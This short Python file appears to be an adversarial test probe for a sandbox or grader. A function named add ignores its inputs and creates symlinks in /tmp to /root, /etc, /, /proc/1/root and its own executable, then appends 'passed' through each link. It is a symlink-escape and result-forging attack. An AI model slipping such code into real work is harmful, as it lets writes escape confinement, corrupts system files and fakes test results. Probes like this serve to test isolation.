"""Leaves links in /tmp that lead out of it, for a cleaner or a writer to follow."""

KIND = "call"
import os


def add(a, b):
    for number, target in enumerate(("@FILE@", "/root", "/etc", "/", "/proc/1/root", "/proc/self/exe", "..")):
        os.symlink(target, f"/tmp/touchstone_attack_link{number}")
        try:
            with open(f"/tmp/touchstone_attack_link{number}", "a") as file:
                file.write("passed")
        except OSError:
            pass
